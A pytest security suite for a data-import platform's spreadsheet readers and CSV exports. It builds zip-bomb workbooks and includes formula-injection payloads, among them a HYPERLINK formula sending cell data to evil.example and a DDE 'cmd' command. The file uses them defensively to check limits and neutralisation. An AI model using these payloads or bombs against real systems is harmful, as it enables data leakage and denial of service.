"""Attacks on the data imports (issue 14), replayed against the real code.

Each test is named after the attack: hostile spreadsheets (zip bombs, sheets wider or
longer than the limits), clear personal identity numbers in free-text columns and raw
files left on disk, an import left ``running`` by a killed worker, spreadsheet formulas
in exported cells, and arbitrary bytes fed to the readers (hypothesis).
"""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path

import pytest
from platform_helpers import csv_text, personnummer, upload, xlsx_bytes

from utfall.errors import DataInvalid
from utfall.platform.imports.readers import LIMITS, open_table

_SHEET = "xl/worksheets/sheet1.xml"


@pytest.fixture(autouse=True)
def _own_media_root(settings, tmp_path):
    """Each test sees only the files it uploaded."""
    settings.MEDIA_ROOT = tmp_path / "media"


def _workbook_with_sheet(chunks, *, extra: dict[str, bytes] | None = None) -> bytes:
    """A valid workbook whose first sheet's XML is ``chunks`` (an iterable of bytes),
    written as a stream so that a huge sheet never sits in memory."""
    template = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["a"], [1]])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for member in template.infolist():
            if member.filename != _SHEET:
                archive.writestr(member.filename, template.read(member))
        with archive.open(_SHEET, "w", force_zip64=True) as sheet:
            sheet.write(
                b'<?xml version="1.0" encoding="UTF-8"?><worksheet '
                b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            )
            for chunk in chunks:
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _zip_bomb(cells: int = 5_000_000, width: int = 10) -> bytes:
    """Millions of identical cells (no ``r`` attributes: a row is the same bytes each time)."""
    row = b"<row>" + b"<c><v>1</v></c>" * width + b"</row>"
    block = row * 10_000
    return _workbook_with_sheet(block for _ in range(cells // width // 10_000))


def _refused(path: Path, name: str) -> DataInvalid:
    with pytest.raises(DataInvalid) as caught:
        opened = open_table(path, file_name=name)
        list(opened.rows)
    return caught.value


def test_xlsx_zip_bomb_of_five_million_cells_is_refused_quickly_naming_the_limit(tmp_path):
    bomb = _zip_bomb()
    assert len(bomb) < 400_000  # a few hundred kilobytes on the wire
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(bomb)
    started = time.perf_counter()
    error = _refused(path, "bomb.xlsx")
    assert time.perf_counter() - started < 5
    finding = error.findings[0]
    assert finding.code == "limit-exceeded" and finding.file == "bomb.xlsx"
    assert "max_cells" in finding.message and f"{LIMITS.max_cells:,}" in finding.message


def test_xlsx_that_unpacks_to_gigabytes_is_refused_before_parsing(tmp_path):
    # One shared-strings member of zeros: 300 MiB unpacked from a few hundred kilobytes.
    zeros = b"0" * (1024 * 1024)
    data = _workbook_with_sheet([b""], extra={})
    buffer = io.BytesIO(data)
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as member,
    ):
        for _ in range(300):
            member.write(zeros)
    path = tmp_path / "unpacks.xlsx"
    path.write_bytes(buffer.getvalue())
    error = _refused(path, "unpacks.xlsx")
    assert error.findings[0].code == "limit-exceeded"
    assert "max_unzipped_bytes" in error.findings[0].message


def test_xlsx_with_one_far_away_cell_cannot_make_calamine_allocate_a_huge_range(tmp_path):
    # Two cells, A1 and XFD1048576: a parser that allocates the spanned range needs
    # 17 billion cells.
    sheet = (
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>'
        b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    )
    path = tmp_path / "far.xlsx"
    path.write_bytes(_workbook_with_sheet([sheet]))
    error = _refused(path, "far.xlsx")
    assert error.findings[0].code == "limit-exceeded"
    assert "max_rows" in error.findings[0].message or "max_columns" in error.findings[0].message


def test_xlsx_wider_than_the_column_limit_is_refused(tmp_path):
    row = b"<row>" + b"<c><v>1</v></c>" * (LIMITS.max_columns + 1) + b"</row>"
    path = tmp_path / "wide.xlsx"
    path.write_bytes(_workbook_with_sheet([row, row]))
    error = _refused(path, "wide.xlsx")
    assert "max_columns" in error.findings[0].message


def test_csv_wider_than_the_column_limit_is_refused(tmp_path):
    path = tmp_path / "wide.csv"
    header = [f"c{i}" for i in range(LIMITS.max_columns + 1)]
    path.write_text(csv_text(header, [[1] * len(header)]))
    error = _refused(path, "wide.csv")
    assert "max_columns" in error.findings[0].message and error.findings[0].row == 1


def test_a_sheet_within_the_limits_still_reads(tmp_path):
    path = tmp_path / "ok.xlsx"
    path.write_bytes(xlsx_bytes([["personnummer", "amount"], [personnummer(1), -5]]))
    opened = open_table(path, file_name="ok.xlsx")
    assert opened.header == ["personnummer", "amount"]
    assert [cells for _, cells in opened.rows] == [[personnummer(1), -5.0]]


def test_a_corrupt_zip_is_a_finding_not_a_traceback(tmp_path):
    data = bytearray(xlsx_bytes([["a"], [1]]))
    data[60:90] = b"\xff" * 30
    path = tmp_path / "corrupt.xlsx"
    path.write_bytes(bytes(data))
    error = _refused(path, "corrupt.xlsx")
    assert error.findings[0].code in ("unreadable-workbook", "empty-file")


# --- clear personnummer: in free text, and raw files on disk (critical item 4) ----------


def _commissioner(world):
    from utfall.platform.contracts.models import Role

    return world.users[Role.COMMISSIONER]


def _kept_files(world) -> list[Path]:
    from django.conf import settings

    folder = Path(settings.MEDIA_ROOT) / "imports" / str(world.contract.pk)
    return sorted(p for p in folder.rglob("*") if p.is_file()) if folder.exists() else []


def _import(world, table, name, content):
    from utfall.platform.imports.models import BatchStatus
    from utfall.platform.imports.services import import_commit, import_upload, import_validate

    user = _commissioner(world)
    batch = import_upload(
        contract=world.contract, table=table, uploaded=upload(name, content), actor=user
    )
    batch = import_validate(batch=batch, actor=user)
    if batch.status == BatchStatus.VALID:
        batch = import_commit(batch=batch, actor=user)
    return batch


def _participants(world, numbers, name="participants.csv"):
    rows = [[n, "2020-02-01"] for n in numbers]
    return _import(world, "participants", name, csv_text(["personnummer", "included_on"], rows))


def _no_clear_number(world, number: str) -> None:
    """The number, in any spelling, is in no stored row, finding, preview or file."""
    from django.db import connection

    from utfall.platform.imports.models import TableSegment
    from utfall.platform.tables import segment_decode

    chunks = []
    with connection.cursor() as cursor:
        for table in connection.introspection.table_names():
            cursor.execute(f'SELECT * FROM "{table}"')
            chunks.extend(str(row) for row in cursor.fetchall())
    for data in TableSegment.objects.values_list("data", flat=True):
        chunks.append(str(segment_decode(data).to_pylist()))
    for path in _kept_files(world):
        chunks.append(path.read_bytes().decode("utf-8", "replace"))
    everything = "\n".join(chunks)
    digits = number.replace("-", "").replace("+", "")
    for spelling in (number, digits, digits[-10:], f"{digits[-10:-4]}-{digits[-4:]}"):
        assert spelling not in everything, spelling


@pytest.mark.django_db
@pytest.mark.parametrize(
    "spelling",
    [
        lambda n: n,  # YYYYMMDD-NNNN
        lambda n: n.replace("-", ""),  # YYYYMMDDNNNN
        lambda n: n[2:],  # YYMMDD-NNNN
        lambda n: n[2:].replace("-", "+"),  # YYMMDD+NNNN (100 years or older)
        lambda n: "see " + n[2:].replace("-", "") + " (the case)",  # inside a sentence
    ],
    ids=["twelve", "twelve-bare", "ten", "ten-plus", "in-a-sentence"],
)
def test_personnummer_typed_into_a_free_text_column_is_refused_with_row_and_column(world, spelling):
    from utfall.platform.imports.models import BatchStatus

    numbers = [personnummer(i) for i in range(1, 3)]
    _participants(world, numbers)
    hidden = personnummer(40)
    written = spelling(hidden)
    rows = [
        [numbers[0], "2020-01-01", "placement", "100.00"],
        [numbers[1], "2020-01-01", written, "200.00"],
    ]
    content = csv_text(["personnummer", "date", "category", "amount"], rows)
    batch = _import(world, "cost_records", "costs.csv", content)
    assert batch.status == BatchStatus.INVALID
    findings = [f for f in batch.findings if f["code"] == "identity-number-in-text"]
    assert [(f["row"], f["field"], f["file"]) for f in findings] == [(3, "category", "costs.csv")]
    assert "XXXXXX" in findings[0]["message"]
    _no_clear_number(world, hidden)


@pytest.mark.django_db
def test_coordination_number_in_an_unmapped_column_is_refused_too(world):
    from utfall.platform.imports.models import BatchStatus

    coordination = personnummer(41, coordination=True, twelve=False)
    content = csv_text(
        ["personnummer", "included_on", "note"],
        [[personnummer(1), "2020-01-01", "ok"], [personnummer(2), "2020-01-01", coordination]],
    )
    batch = _import(world, "participants", "p.csv", content)
    assert batch.status == BatchStatus.INVALID
    assert [(f["code"], f["row"], f["field"]) for f in batch.findings] == [
        ("identity-number-in-text", 3, "note")
    ]
    _no_clear_number(world, coordination)


@pytest.mark.django_db
def test_numbers_that_only_look_like_a_personnummer_are_not_refused(world):
    from stdnum import luhn

    from utfall.platform.imports.models import BatchStatus

    wrong = personnummer(42)[:-1] + str((int(personnummer(42)[-1]) + 1) % 10)
    not_a_date = "901345-" + "123" + luhn.calc_check_digit("901345123")
    notes = ["tel 070-123 45 67", wrong, not_a_date, "order 12345678901234", "2020-01-01"]
    rows = [[personnummer(i + 1), "2020-01-01", note] for i, note in enumerate(notes)]
    content = csv_text(["personnummer", "included_on", "note"], rows)
    batch = _import(world, "participants", "p.csv", content)
    assert batch.status == BatchStatus.COMMITTED, batch.findings


@pytest.mark.django_db
def test_raw_file_of_a_committed_import_is_not_kept_on_disk(world):
    from utfall.platform.imports.models import BatchStatus

    numbers = [personnummer(i) for i in range(1, 4)]
    batch = _participants(world, numbers)
    assert batch.status == BatchStatus.COMMITTED
    batch.refresh_from_db()
    assert batch.file_path == "" and _kept_files(world) == []
    for number in numbers:
        _no_clear_number(world, number)


@pytest.mark.django_db
def test_raw_file_of_a_refused_upload_is_not_kept_on_disk(world):
    from utfall.platform.imports.services import import_upload

    _participants(world, [personnummer(1)], name="a.csv")
    user = _commissioner(world)
    again = csv_text(["personnummer", "included_on"], [[personnummer(1), "2020-02-01"]])
    refused = [
        ("again.csv", again),  # already imported
        ("bad.xlsx", b"PK\x03\x04 not a workbook " + personnummer(2).encode()),
        ("empty.csv", b""),
        ("wide.csv", csv_text([f"c{i}" for i in range(600)], [[personnummer(3)] * 600])),
    ]
    for name, content in refused:
        with pytest.raises(DataInvalid):
            import_upload(
                contract=world.contract,
                table="participants",
                uploaded=upload(name, content),
                actor=user,
            )
    assert _kept_files(world) == []


@pytest.mark.django_db
def test_raw_file_of_an_import_refused_at_validation_is_not_kept_on_disk(world):
    from utfall.platform.imports.models import BatchStatus
    from utfall.platform.imports.services import import_validate

    content = csv_text(["personnummer", "included_on"], [[personnummer(1), "not a date"]])
    batch = _import(world, "participants", "bad.csv", content)
    assert batch.status == BatchStatus.INVALID
    assert _kept_files(world) == []
    # Starting it again says why instead of failing on a missing file.
    with pytest.raises(DataInvalid) as caught:
        import_validate(batch=batch, actor=_commissioner(world))
    assert caught.value.findings[0].code == "file-not-kept"


@pytest.mark.django_db
def test_raw_files_kept_by_earlier_versions_are_deleted_by_the_migration_and_the_purge(world):
    import datetime as dt
    import os

    from django.apps import apps
    from django.conf import settings
    from django.utils import timezone

    from utfall.platform.imports.models import BatchStatus, ImportBatch
    from utfall.platform.imports.services import import_files_purge, import_upload

    migration = __import__(
        "utfall.platform.imports.migrations.0004_raw_files_preview_runner",
        fromlist=["_delete_raw_files"],
    )
    numbers = [personnummer(i) for i in range(1, 3)]
    committed = _participants(world, numbers)
    # What earlier versions left: the committed batch's file, and a refused upload's file.
    folder = Path(settings.MEDIA_ROOT) / "imports" / str(world.contract.pk)
    old = folder / "0123abcd.csv"
    old.write_text(csv_text(["personnummer"], [[numbers[0]]]))
    ImportBatch.objects.filter(pk=committed.pk).update(file_path=str(old))
    orphan = folder / "fedcba98.csv"
    orphan.write_text(csv_text(["personnummer"], [[numbers[1]]]))
    # A pending upload keeps its file until it expires.
    pending = import_upload(
        contract=world.contract,
        table="participants",
        uploaded=upload(
            "p.csv", csv_text(["personnummer", "included_on"], [[personnummer(5), "2020-01-01"]])
        ),
        actor=_commissioner(world),
    )
    migration._delete_raw_files(apps, None)
    assert not old.exists() and not orphan.exists()
    assert _kept_files(world) == [Path(pending.file_path)]
    assert ImportBatch.objects.get(pk=committed.pk).file_path == ""
    # The purge, later: an orphan older than an hour and the expired pending upload go.
    orphan.write_text("x")
    an_hour_ago = time.time() - 3700
    os.utime(orphan, (an_hour_ago, an_hour_ago))
    counts = import_files_purge(now=timezone.now() + dt.timedelta(hours=25))
    assert counts == {"final": 0, "expired": 1, "orphans": 1}
    assert _kept_files(world) == []
    assert ImportBatch.objects.get(pk=pending.pk).status == BatchStatus.READY


@pytest.mark.django_db
def test_import_page_never_reads_the_whole_sheet_again_the_preview_is_stored(world, monkeypatch):
    from django.test import Client

    import utfall.platform.imports.readers as readers
    from utfall.platform.imports.selectors import import_preview
    from utfall.platform.imports.services import import_upload

    user = _commissioner(world)
    rows = [["personnummer", "included_on"]] + [
        [personnummer(i), "2020-01-01"] for i in range(1, 60)
    ]
    batch = import_upload(
        contract=world.contract,
        table="participants",
        uploaded=upload("p.xlsx", xlsx_bytes(rows)),
        actor=user,
    )
    assert len(batch.preview["rows"]) == 20

    def no_reading(*args, **kwargs):
        raise AssertionError("the file was read again")

    monkeypatch.setattr(readers, "_open_spreadsheet", no_reading)
    monkeypatch.setattr(readers, "_open_csv", no_reading)
    preview = import_preview(batch=batch)
    assert [row["number"] for row in preview.rows] == list(range(2, 22))
    client = Client()
    client.force_login(user)
    for _ in range(3):
        response = client.get(f"/contracts/{world.contract.identifier}/imports/{batch.pk}/")
        assert response.status_code == 200
        assert personnummer(1) not in response.content.decode()


# --- an import left running by a killed process (medium) --------------------------------


def _dead_pid() -> int:
    import subprocess
    import sys

    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def _killed_mid_commit(world):
    """A batch as ``kill -9`` of its worker in the middle of a commit leaves it: the
    transaction rolled back by the database, the batch claimed and ``running``."""
    import socket

    from django.utils import timezone

    from utfall.platform.imports.models import BatchStatus, ImportBatch, Operation
    from utfall.platform.imports.services import import_upload, import_validate

    user = _commissioner(world)
    content = csv_text(
        ["personnummer", "included_on"], [[personnummer(i), "2020-01-01"] for i in (1, 2)]
    )
    batch = import_upload(
        contract=world.contract,
        table="participants",
        uploaded=upload("p.csv", content),
        actor=user,
    )
    batch = import_validate(batch=batch, actor=user)
    assert batch.status == BatchStatus.VALID
    ImportBatch.objects.filter(pk=batch.pk).update(
        status=BatchStatus.RUNNING,
        operation=Operation.COMMIT,
        runner=f"{socket.gethostname()}:{_dead_pid()}",
        started_at=timezone.now(),
    )
    return batch


@pytest.mark.django_db
def test_import_left_running_by_kill_9_is_failed_on_the_next_view_and_can_be_retried(world):
    from django.test import Client

    from utfall.platform.imports.models import BatchStatus, ImportBatch
    from utfall.platform.imports.services import import_commit

    batch = _killed_mid_commit(world)
    user = _commissioner(world)
    client = Client()
    client.force_login(user)
    response = client.get(f"/contracts/{world.contract.identifier}/imports/{batch.pk}/")
    assert response.status_code == 200
    batch = ImportBatch.objects.get(pk=batch.pk)
    assert batch.status == BatchStatus.FAILED
    assert [f["code"] for f in batch.findings] == ["interrupted"]
    assert "start it again" in batch.findings[0]["message"]
    batch = import_commit(batch=batch, actor=user)
    assert batch.status == BatchStatus.COMMITTED, batch.findings
    assert batch.rows_written == 2


@pytest.mark.django_db
def test_import_left_running_is_recovered_when_the_worker_starts_again(world):
    from django.core.management import call_command

    from utfall.platform.imports.models import BatchStatus, ImportBatch

    batch = _killed_mid_commit(world)
    out = io.StringIO()
    call_command("imports_recover", stdout=out)
    assert "recovered 1" in out.getvalue()
    assert ImportBatch.objects.get(pk=batch.pk).status == BatchStatus.FAILED


@pytest.mark.django_db
def test_import_running_on_a_live_process_is_not_taken_away(world):
    import os
    import socket

    from utfall.platform.imports.models import BatchStatus, ImportBatch
    from utfall.platform.imports.services import _runner, import_recover_stale

    batch = _killed_mid_commit(world)
    ImportBatch.objects.filter(pk=batch.pk).update(runner=f"{socket.gethostname()}:{os.getppid()}")
    assert import_recover_stale() == []
    ImportBatch.objects.filter(pk=batch.pk).update(runner=_runner())
    assert import_recover_stale() == []
    assert ImportBatch.objects.get(pk=batch.pk).status == BatchStatus.RUNNING


@pytest.mark.django_db
def test_import_whose_pid_was_reused_after_a_restart_is_recovered(world):
    import os
    import socket

    from utfall.platform.imports.models import BatchStatus, ImportBatch
    from utfall.platform.imports.services import import_recover_stale

    batch = _killed_mid_commit(world)
    # The pid of a live process, but it started at another time than the runner recorded.
    ImportBatch.objects.filter(pk=batch.pk).update(runner=f"{socket.gethostname()}:{os.getpid()}:1")
    assert import_recover_stale() == [batch.pk]
    assert ImportBatch.objects.get(pk=batch.pk).status == BatchStatus.FAILED


@pytest.mark.django_db
def test_import_left_running_on_another_host_is_failed_once_its_progress_is_old(world, settings):
    import datetime as dt

    from django.core.cache import cache
    from django.utils import timezone

    from utfall.platform.imports.models import BatchStatus, ImportBatch
    from utfall.platform.imports.services import import_recover_stale, progress_key

    batch = _killed_mid_commit(world)
    settings.UTFALL_IMPORT_STALE_SECONDS = 600
    ImportBatch.objects.filter(pk=batch.pk).update(runner="worker-2.internal:4242")
    cache.set(progress_key(batch.pk), {"done": 1, "at": timezone.now().timestamp()})
    assert import_recover_stale() == []
    old = (timezone.now() - dt.timedelta(seconds=601)).timestamp()
    cache.set(progress_key(batch.pk), {"done": 1, "at": old})
    assert import_recover_stale() == [batch.pk]
    assert ImportBatch.objects.get(pk=batch.pk).status == BatchStatus.FAILED


# --- CSV and XLSX formula injection (medium) ---------------------------------------------

_PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _read_csv(text: str) -> list[list[str]]:
    import csv

    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _runs_as_formula(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_formula_in_a_council_table_cell_comes_back_neutralised_in_the_csv():
    from decimal import Decimal

    from utfall.platform.council.tables import Column, Table, table_csv

    table = Table(
        id="cohorts",
        title="Cohorts",
        columns=[Column("cohort", "Cohort"), Column("cost", "Cost", "money")],
        rows=[{"cohort": payload, "cost": Decimal("-5.00")} for payload in _PAYLOADS]
        + [{"cohort": "2016", "cost": -12}],
    )
    rows = _read_csv(table_csv(table))[1:]
    assert [row[0] for row in rows[:-1]] == ["'" + p for p in _PAYLOADS]
    assert not any(_runs_as_formula(row[0]) for row in rows)
    # Negative numbers stay numbers.
    assert [row[1] for row in rows] == ["-5.00"] * len(_PAYLOADS) + ["-12"]


def test_formula_in_fund_rows_csv_is_neutralised_and_negative_amounts_stay_numbers():
    from decimal import Decimal

    from utfall.platform.fund.contract import rows_csv

    payloads = [p for p in _PAYLOADS if "\r" not in p]  # this writer ends lines with \n only
    text = rows_csv(["name", "amount"], [[p, Decimal("-1.50")] for p in payloads]).decode()
    rows = _read_csv(text)[1:]
    assert not any(_runs_as_formula(row[0]) for row in rows)
    assert {row[1] for row in rows} == {"-1.50"}


def test_formula_as_a_contract_label_is_neutralised_in_the_import_template(world):
    from utfall.platform.imports.services import import_target
    from utfall.platform.imports.templates import template_csv

    target = import_target(world.contract, "cost_records")
    column = target.table.columns[0]
    original = column.label
    object.__setattr__(column, "label", type(original)(sv=_PAYLOADS[0], en=_PAYLOADS[0]))
    try:
        text = template_csv(target.document.data, target.table, language="en").decode()
    finally:
        object.__setattr__(column, "label", original)
    header = _read_csv(text)[0]
    assert "'" + _PAYLOADS[0] in header
    assert not any(_runs_as_formula(cell) for cell in header)


def test_every_csv_writer_of_the_platform_neutralises_formulas():
    """A new CSV export must pass its cells through utfall.core.exports as well."""
    source = Path(__file__).resolve().parents[2] / "src" / "utfall"
    writers = []
    for folder in ("platform", "services"):
        for path in (source / folder).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if "csv.writer(" in text or "csv.DictWriter(" in text:
                writers.append(path)
                assert "spreadsheet_row" in text or "spreadsheet_mapping" in text, path
            if "xlsxwriter" in text and ".write(" in text:
                raise AssertionError(f"{path}: write text with write_string, never write()")
    assert len(writers) >= 5


# --- fuzzing the readers (hypothesis) ------------------------------------------------------

from hypothesis import HealthCheck, example, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

_FUZZ = settings(
    max_examples=int(__import__("os").environ.get("UTFALL_FUZZ_EXAMPLES", "150")),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def _read_all(path: Path, name: str, encoding: str = "utf-8") -> None:
    """Open and read every row; any problem must be DataInvalid naming the file."""
    try:
        opened = open_table(path, file_name=name, encoding=encoding)
        for number, cells in opened.rows:
            assert number >= 2 and len(cells) == len(opened.header)
    except DataInvalid as error:
        assert error.findings, error
        assert all(f.file == name for f in error.findings), error.findings
        assert str(error).startswith(name)


_CSV_ALPHABET = st.sampled_from([*',;\t"\n\r ab1-å\x00\xff=', "19900207-0010", "é"])


@_FUZZ
@given(
    data=st.one_of(
        st.binary(max_size=2000),
        st.lists(_CSV_ALPHABET, max_size=300).map(lambda parts: "".join(parts).encode()),
    ),
    encoding=st.sampled_from(["utf-8", "cp1252"]),
)
@example(data=b"a\rb\n\x80", encoding="utf-8")  # a bad byte under a header with a CR
def test_fuzzed_csv_bytes_either_read_or_give_a_finding_naming_the_file(
    tmp_path_factory, data, encoding
):
    path = tmp_path_factory.mktemp("csv") / "fuzz.csv"
    path.write_bytes(data)
    _read_all(path, "fuzz.csv", encoding)


_VALID_XLSX = xlsx_bytes([["personnummer", "amount", "note"], [personnummer(1), -5, "x"]])


@_FUZZ
@given(
    edits=st.lists(
        st.tuples(st.integers(0, len(_VALID_XLSX) - 1), st.integers(0, 255)), max_size=12
    ),
    cut=st.one_of(st.none(), st.integers(0, len(_VALID_XLSX))),
)
# "Version needed to extract" 6.4 in the central directory: zipfile raises NotImplementedError.
@example(edits=[(_VALID_XLSX.find(b"PK\x01\x02") + 6, 64)], cut=None)
def test_fuzzed_xlsx_bytes_either_read_or_give_a_finding_naming_the_file(
    tmp_path_factory, edits, cut
):
    data = bytearray(_VALID_XLSX)
    for position, value in edits:
        data[position] = value
    if cut is not None:
        data = data[:cut]
    path = tmp_path_factory.mktemp("xlsx") / "fuzz.xlsx"
    path.write_bytes(bytes(data))
    _read_all(path, "fuzz.xlsx")


@_FUZZ
@given(
    sheet=st.lists(
        st.sampled_from(
            [
                b"<row>",
                b"</row>",
                b'<row r="0">',
                b'<row r="9999999">',
                b"<c><v>1</v></c>",
                b'<c r="XFD1"><v>1</v></c>',
                b'<c r="A1048576" t="inlineStr"><is><t>a</t></is></c>',
                b'<c t="s"><v>7</v></c>',
                b'<c r="ZZZZ1"/>',
                b"<c",
                b">",
                b"&amp;",
            ]
        ),
        max_size=60,
    )
)
def test_fuzzed_worksheet_xml_either_reads_or_gives_a_finding(tmp_path_factory, sheet):
    path = tmp_path_factory.mktemp("sheet") / "fuzz.xlsx"
    path.write_bytes(_workbook_with_sheet([b"".join(sheet)]))
    _read_all(path, "fuzz.xlsx")


@_FUZZ
@given(data=st.lists(_CSV_ALPHABET, max_size=200).map(lambda parts: "".join(parts).encode()))
def test_fuzzed_csv_for_the_command_line_reader_gives_a_finding_not_a_traceback(
    tmp_path_factory, data
):
    from utfall.adapters.files import read_arrow

    path = tmp_path_factory.mktemp("arrow") / "fuzz.csv"
    path.write_bytes(data)
    try:
        read_arrow(path, as_text=True)
    except DataInvalid as error:
        assert error.findings and error.findings[0].file == str(path)


_CELL = st.one_of(
    st.text(max_size=20),
    st.sampled_from(
        ["2020-01-01", "2020-13-01", "1 234,50", "-5", "=1+1", "19900207-0010", "", " ", "NaN"]
    ),
    st.integers(-(10**13), 10**13).map(str),
    st.decimals(allow_nan=True, allow_infinity=True).map(str),
)


@_FUZZ
@given(
    rows=st.lists(st.lists(_CELL, min_size=3, max_size=4), min_size=1, max_size=8),
    delimiter=st.sampled_from([",", ";", "\t"]),
)
@pytest.mark.django_db
def test_fuzzed_cells_through_upload_and_validation_give_findings_never_a_traceback(
    world, rows, delimiter
):
    import csv

    from utfall.platform.imports.models import BatchStatus, ImportBatch
    from utfall.platform.imports.services import import_upload, import_validate

    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow(["personnummer", "date", "category", "amount"])
    writer.writerows([personnummer(1 + index % 2), *row[:3]] for index, row in enumerate(rows))
    user = _commissioner(world)
    if not ImportBatch.objects.filter(table="participants", status="committed").exists():
        _participants(world, [personnummer(1)])  # rows of person 2 name no participant
    try:
        batch = import_upload(
            contract=world.contract,
            table="cost_records",
            uploaded=upload("fuzz.csv", out.getvalue()),
            actor=user,
        )
        assert batch.status == BatchStatus.READY, batch.mapping
        batch = import_validate(batch=batch, actor=user)
        assert batch.status in (BatchStatus.VALID, BatchStatus.INVALID)
        for finding in batch.findings:
            assert finding["file"] == "fuzz.csv" and finding["row"], finding
            assert "19900207-0010" not in finding["message"]
    except DataInvalid as error:
        assert all(f.file == "fuzz.csv" for f in error.findings), error.findings


@pytest.mark.django_db
def test_file_without_a_header_whose_first_row_holds_a_personnummer_is_refused_at_upload(world):
    from utfall.platform.imports.services import import_upload

    number = personnummer(43)
    content = csv_text([number, "2020-01-01"], [[personnummer(44), "2020-01-01"]])
    with pytest.raises(DataInvalid) as caught:
        import_upload(
            contract=world.contract,
            table="participants",
            uploaded=upload("noheader.csv", content),
            actor=_commissioner(world),
        )
    finding = caught.value.findings[0]
    assert (finding.code, finding.row, finding.file) == (
        "identity-number-in-text",
        1,
        "noheader.csv",
    )
    assert number not in str(caught.value) and number[2:] not in str(caught.value)
    assert _kept_files(world) == []


@pytest.mark.django_db
def test_personnummer_in_a_number_column_is_not_echoed_by_the_cells_own_problem(world):
    from utfall.platform.imports.models import BatchStatus

    _participants(world, [personnummer(1)])
    hidden = personnummer(45)
    content = csv_text(
        ["personnummer", "date", "category", "amount"],
        [[personnummer(1), "2020-01-01", "placement", hidden]],
    )
    batch = _import(world, "cost_records", "costs.csv", content)
    assert batch.status == BatchStatus.INVALID
    codes = {(f["code"], f["field"]) for f in batch.findings}
    assert ("identity-number-in-text", "amount") in codes
    _no_clear_number(world, hidden)
